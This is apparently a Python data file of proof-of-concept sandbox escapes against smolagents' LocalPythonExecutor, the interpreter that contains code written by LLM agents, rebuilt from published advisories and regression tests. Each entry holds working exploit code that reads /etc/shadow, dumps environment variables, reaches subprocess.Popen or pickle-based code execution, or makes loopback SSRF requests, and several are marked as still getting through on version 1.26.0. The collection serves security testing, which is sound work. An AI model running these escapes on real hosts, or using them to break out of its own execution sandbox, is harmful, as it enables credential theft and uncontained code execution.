"""Proofs of concept of the published smolagents LocalPythonExecutor advisories (and related escapes), with
harmless payloads (read /etc/shadow, print the environment, reach a loopback server). Each keeps the
imports it needs, so it runs with the first layer (smolagents' allow-list) on. Collected from the
advisories, their fixes' regression tests and the reports named in ``source``; ``note`` says how each was
rebuilt. Checked against smolagents 1.26.0 without a sandbox: see ``scripts/attack_report.py``.
"""

ADVISORY_POCS = [
    dict(
        id="cve-2025-5120",
        imports=("warnings",),
        source="https://github.com/advisories/GHSA-6v92-r5mx-h5fx ; huntr report https://huntr.com/bounties/63ab1cfe-b573-4cf5-a7d3-fb6c957e34b0 (not retrievable here) ; fix commit https://github.com/huggingface/smolagents/commit/33a942e62b6fbf6a35d41f1c735bda2d64c163d0 ; fix PR https://github.com/huggingface/smolagents/pull/1375 ; regression test tests/test_local_python_executor.py::TestLocalPythonExecutorSecurity::test_vulnerability_via_submodules_through_indirect_attribute_access",
        note="[1.26.0: BLOCKED - 'Forbidden access to module: sys'] The huntr PoC text could not be retrieved; this is rebuilt from the fix's regression test. Allowed builtins map()/getattr() pull a forbidden module (warnings.sys -> sys.modules['os']) out of an allowed module. Before 1.17.0 a module was only checked when it was a whole AST-node value, so keeping it inside a list got past the check. Fixed by wrapping static tools in safer_func, so getattr's return value is checked too. Linking PR #1375 to the fix commit is an inference: it was opened on 2025-05-23, the day the CVE was reserved.",
        code=r"""# CVE-2025-5120 (huntr, fixed 1.17.0 by PR #1375 "Prevent submodules through indirect attribute access").
# Reach a forbidden module (sys -> os) through an authorized module's attribute, using the
# whitelisted builtins map()/getattr() so the module object never appears as an AST node value.
import warnings
sys_in_list = list(map(getattr, [warnings], ["sys"]))             # [sys]   (only the list is checked)
modules_in_list = list(map(getattr, sys_in_list, ["modules"]))    # [sys.modules]
os_in_list = list(map(dict.get, modules_in_list, ["os"]))         # [os]
environ_in_list = list(map(getattr, os_in_list, ["environ"]))     # [os.environ]  (not a module -> passes checks)
print(dict(environ_in_list[0]))
""",
    ),
    dict(
        id="cve-2025-5120-testcase",
        imports=("warnings", "functools"),
        source="https://github.com/huggingface/smolagents/pull/1375 ; tests/test_local_python_executor.py::test_vulnerability_via_submodules_through_indirect_attribute_access (functools.partial case)",
        note="[1.26.0: BLOCKED - 'Forbidden access to module: sys'] Same technique written like the functools.partial(getattr, warnings) regression test, continued until os.environ is printed.",
        code=r"""# CVE-2025-5120 variant exactly as in the regression test added by the fix (functools.partial + filter/map)
import functools
import warnings
sys_in_list = list(map(functools.partial(getattr, warnings), ["sys"]))
environ_in_list = list(map(getattr, list(map(dict.get, list(map(getattr, sys_in_list, ["modules"])), ["os"])), ["environ"]))
print(dict(environ_in_list[0]))
""",
    ),
    dict(
        id="cve-2025-9959",
        imports=(),
        source="https://research.jfrog.com/vulnerabilities/smolagents-local-python-sandbox-escape-jfsa-2025-001434277/ (not retrievable here) ; CVE record https://github.com/CVEProject/cvelistV5/blob/main/cves/2025/9xxx/CVE-2025-9959.json ; fix PR https://github.com/huggingface/smolagents/pull/1551 ; test tests/test_local_python_executor.py::TestLocalPythonExecutorSecurity::test_vulnerability_via_dunder_call",
        note="[1.26.0: BLOCKED - 'Forbidden call to dunder function: __getattribute__'] The PoC is taken from the fix's test, with the payload changed from ['sh','-c',':'] to ['cat','/etc/shadow']. A dunder reached as a call (x.__getattribute__(...)) skipped evaluate_attribute's dunder check. That gives __class__ -> __bases__ -> object.__subclasses__() -> subprocess.Popen. Fixed in 1.21.0 by checking func.__name__ in evaluate_call. If it ran, it would spawn one 'cat' process.",
        code=r"""# CVE-2025-9959 (JFrog, fixed 1.21.0 by PR #1551): dunder *methods* reached through a call node
# (evaluate_call did getattr(obj, "__getattribute__") without the dunder check used for attributes).
def func():
    pass
function_class = func.__getattribute__("__class__")
object_class = type.__getattribute__(function_class, '__bases__')[0]
for i, subclass in enumerate(object_class.__subclasses__()):
    if 'subprocess.Popen' in str(subclass):
        break
print(subclass(["cat", "/etc/shadow"], stdout=-1).communicate()[0].decode())
""",
    ),
    dict(
        id="cve-2026-4963",
        imports=(),
        source="https://github.com/advisories/GHSA-54fq-v6x8-244g ; CVE record https://github.com/CVEProject/cvelistV5/blob/main/cves/2026/4xxx/CVE-2026-4963.json (exploit gist https://gist.github.com/YLChen-007/35b7d46e892266a0ed6dbe57802858be, not retrievable here; VulDB 353840) ; unmerged fix PR https://github.com/huggingface/smolagents/pull/2281",
        note="[1.26.0: GOT THROUGH - /etc/shadow read, no extra imports] Rebuilt from the advisory text (evaluate_augassign/evaluate_call/evaluate_with) and PR #2281's gap list; this is not the gist verbatim. AugAssign's get_current_value() uses a raw getattr, so 'X.__base__ += g' reads any dunder. A sandbox class's __radd__ captures the value, and the setattr error that follows is caught. iter(fn, None) calls the dunder method __subclasses__ without going through evaluate_call's dunder-name check. _frozen_importlib_external.FileLoader(...).get_data(path) then reads any file.",
        code=r"""# CVE-2026-4963 (incomplete fix of CVE-2025-9959): evaluate_augassign's get_current_value() does a raw
# getattr(obj, target.attr) with no dunder check. A user class with __radd__ captures the value read.
class Grab:
    def __init__(self):
        self.items = []
    def __radd__(self, other):
        self.items.append(other)
        return other

g = Grab()

class A:
    pass

try:
    A.__base__ += g                 # raw getattr(A, "__base__") -> object ; setattr then fails (read-only)
except Exception:
    pass
object_cls = g.items[-1]

try:
    object_cls.__subclasses__ += g  # raw getattr(object, "__subclasses__") -> bound builtin method
except Exception:
    pass
# evaluate_call would refuse to call a dunder by name, but iter(callable, sentinel) calls it for us
subclasses = next(iter(g.items[-1], None))

for c in subclasses:
    if str(c).endswith(".FileLoader'>"):
        break
print(c("x", "/etc/shadow").get_data("/etc/shadow").decode())
""",
    ),
    dict(
        id="cve-2026-4963-with",
        imports=(),
        source="https://github.com/advisories/GHSA-54fq-v6x8-244g ; https://github.com/huggingface/smolagents/pull/2281 (items 1 and 5) ; evaluate_with source in smolagents 1.26.0 local_python_executor.py",
        note="[1.26.0: GOT THROUGH - /etc/shadow read, no extra imports] Variant that uses all three functions named in the advisory, rebuilt rather than copied. evaluate_with hands the raw traceback to a user __exit__, so tb.tb_frame is a host frame and __traceback__ is never touched. AugAssign reads the __get__ of the frame type's f_builtins descriptor. map() applies it so the builtins dict never becomes an AST-node value, and dict.get pulls out open. evaluate_call's builtin test uses inspect.getmodule(open), which is io rather than builtins, so the call to open() is allowed.",
        code=r"""# CVE-2026-4963 evaluate_with + evaluate_augassign + evaluate_call chain:
#  * evaluate_with passes the raw traceback to a user-defined __exit__ (no __traceback__ dunder check)
#  * AugAssign reads the dunder __get__ of the frame's f_builtins descriptor
#  * map() applies it so the builtins dict is never an AST node value; dict.get pulls out open()
#  * evaluate_call's "is it a builtin?" test uses inspect.getmodule(open) == io, not builtins -> call allowed
class Leak:
    def __init__(self):
        self.tb = None
    def __enter__(self):
        return self
    def __exit__(self, exc_type, exc, tb):
        self.tb = tb
        return True

class Grab:
    def __init__(self):
        self.items = []
    def __radd__(self, other):
        self.items.append(other)
        return other

lk = Leak()
with lk:
    1 / 0
frame = lk.tb.tb_frame
g = Grab()
desc = type(frame).f_builtins
try:
    desc.__get__ += g
except Exception:
    pass
builtins_dicts = list(map(g.items[-1], [frame]))
opener = list(map(dict.get, builtins_dicts, ["open"]))[0]
print(opener("/etc/shadow").read())
""",
    ),
    dict(
        id="cve-2026-2654",
        imports=("requests",),
        source="https://github.com/CH0ico/CVE_choco_smolagent/blob/main/report.md#proof-of-concept-execution ; GHSA-jxgv-6j54-wwc7 ; NVD/cvelist record references ; open fix PR https://github.com/huggingface/smolagents/pull/2561",
        note="[1.26.0: GOT THROUGH - both internal URLs were handed to the HTTP transport; verified with requests' HTTPAdapter.send stubbed and sockets disabled, so no packets were sent] SSRF: nothing filters outbound requests once 'requests' is authorized. The published PoC reads http://127.0.0.1:8081/ and hex-exfiltrates to an attacker listener. Here the exfiltration and cloud-metadata steps are removed and the loopback URL points at the test's counting server. It cannot print os.environ or read /etc/shadow by itself: the impact is network reach, not host code execution.",
        code=r"""# CVE-2026-2654 (VulDB, CH0ico/CVE_choco_smolagent report.md): no egress filtering when a network-capable
# module (requests) is authorized -> SSRF to loopback / cloud-metadata and out-of-band exfiltration.
# Harmless adaptation: only internal endpoints; the value is printed instead of exfiltrated.
# VERIFY ONLY WITH THE HTTP TRANSPORT STUBBED (no real packets).
import requests

try:
    # 1. read an internal-only endpoint (loopback service / cloud instance metadata)
    flag = requests.get("http://127.0.0.1:{port}/flag.txt", timeout=5).text.strip()
    print(flag)
    # 2. hex-encode to slip past output filters (original PoC then sends it to an attacker listener)
    hex_data = flag.encode().hex()
    print(hex_data)
except Exception as e:
    print(f"wrong: {e}")
""",
    ),
    dict(
        id="extra-format-string-environ",
        imports=(),
        source="Derived, not found published: str.format attribute traversal combined with the random._os reference from tests/test_local_python_executor.py::test_vulnerability_via_submodules (where print(random._os.environ) is blocked with 'Forbidden access to module: os')",
        note="[1.26.0: GOT THROUGH - os.environ printed, default imports only] '{0._os.environ}'.format(random) walks the attributes inside CPython's str.format. No sandbox check runs, and only the resulting str is checked. get_safe_module copies submodule attributes such as random._os, so any module reachable from an authorized module leaks. Dunders such as {0.__init__.__globals__} are also readable this way, but only as strings.",
        code=r"""# str.format() resolves "{0.attr.attr[key]}" with the host's getattr/getitem, outside every sandbox check.
# random (a default-authorized module) keeps a reference to os as random._os.
import random
print("{0._os.environ}".format(random))
""",
    ),
    dict(
        id="extra-pandas-read-csv",
        imports=("pandas",),
        source="smolagents docs/source/en/tutorials/secure_code_execution.md ('advanced escape techniques might exploit deeper vulnerabilities in authorized packages') ; same pattern as the CVE-2024-42992 PoC discussed in https://github.com/cisagov/vulnrichment/issues/97",
        note="[1.26.0: GOT THROUGH - /etc/shadow read] An authorized data library is an arbitrary file-read primitive with no os and no open. numpy.fromfile/loadtxt work the same way with ['numpy']. read_csv('/proc/self/environ') leaks the environment.",
        code=r"""# Authorized data library used as a file-read primitive (no os/open needed).
import pandas as pd
df = pd.read_csv("/etc/shadow", header=None, sep="\x07")
print("\n".join(df[0].tolist()))
""",
    ),
    dict(
        id="extra-numpy-load-pickle",
        imports=("numpy",),
        source="Derived (same class as pandas read_pickle RCE, https://github.com/pandas-dev/pandas/issues/67074); not found in smolagents issues",
        note="[1.26.0: GOT THROUGH - host builtins.open called, /etc/shadow read] numpy.load(fileobj, allow_pickle=True) runs the host pickle.load on a file-like class defined in the sandbox, so nothing is written to disk. A pickle GLOBAL/REDUCE can call any importable callable, so this is full code execution; the payload here only calls open('/etc/shadow').",
        code=r"""# numpy.load(allow_pickle=True) on a file-like object defined in the sandbox -> host pickle.load
# -> arbitrary global lookup / call on the host. Payload: builtins.open("/etc/shadow").
import numpy as np

class FakeFile:
    def __init__(self, data):
        self.data = data
        self.pos = 0
    def read(self, n=-1):
        if n is None or n < 0:
            n = len(self.data) - self.pos
        chunk = self.data[self.pos:self.pos + n]
        self.pos = self.pos + len(chunk)
        return chunk
    def readline(self):
        end = self.data.find(b"\n", self.pos)
        end = len(self.data) if end < 0 else end + 1
        chunk = self.data[self.pos:end]
        self.pos = end
        return chunk
    def seek(self, offset, whence=0):
        if whence == 1:
            self.pos = self.pos + offset
        elif whence == 2:
            self.pos = len(self.data) + offset
        else:
            self.pos = offset
        return self.pos
    def tell(self):
        return self.pos

payload = b"cbuiltins\nopen\n(V/etc/shadow\ntR."
f = np.load(FakeFile(payload), allow_pickle=True)
print(f.read())
""",
    ),
    dict(
        id="extra-ctypes-issue-2094",
        imports=("ctypes",),
        source="https://github.com/huggingface/smolagents/issues/2094",
        note="[1.26.0: GOT THROUGH when 'ctypes' is authorized - getenv(PATH/HOME) printed] ctypes is not in DANGEROUS_MODULES, so if a developer authorizes it (or '*') libc is directly callable. libc.system would work the same way; getenv keeps the payload harmless. Without ctypes authorized: 'Import of ctypes is not allowed'.",
        code=r"""# smolagents issue #2094: ctypes is not in DANGEROUS_MODULES; if a developer authorizes it, libc is callable.
import ctypes
libc = ctypes.CDLL(None)
libc.getenv.restype = ctypes.c_char_p
print(libc.getenv(b"PATH"), libc.getenv(b"HOME"))
""",
    ),
    dict(
        id="extra-test-traceback-frame",
        imports=(),
        source="tests/test_local_python_executor.py::TestLocalPythonExecutorSecurity::test_vulnerability_builtins_via_traceback",
        note="[1.26.0: BLOCKED - 'Forbidden access to dunder attribute: __traceback__'] Classic path from the exception traceback through frame.f_globals to __builtins__. cve-2026-4963-with reaches the same frame without __traceback__.",
        code=r"""# tests: test_vulnerability_builtins_via_traceback
try:
    1 / 0
except Exception as e:
    builtins = e.__traceback__.tb_frame.f_back.f_globals["__builtins__"]
    print(builtins["open"]("/etc/shadow").read())
""",
    ),
    dict(
        id="extra-test-catch-warnings-subclasses",
        imports=(),
        source="tests/test_local_python_executor.py::TestLocalPythonExecutorSecurity::test_vulnerability_builtins_via_class_catch_warnings (same family: test_vulnerability_load_module_via_builtin_importer, test_vulnerability_class_via_subclasses)",
        note="[1.26.0: BLOCKED - 'Forbidden access to dunder attribute: __base__'] Classic {}.__class__.__base__.__subclasses__() -> catch_warnings()._module.__builtins__ path. cve-2026-4963 reaches object.__subclasses__() without an attribute node.",
        code=r"""# tests: test_vulnerability_builtins_via_class_catch_warnings
classes = {}.__class__.__base__.__subclasses__()
for cls in classes:
    if cls.__name__ == "catch_warnings":
        break
builtins = cls()._module.__builtins__
print(builtins["open"]("/etc/shadow").read())
""",
    ),
]
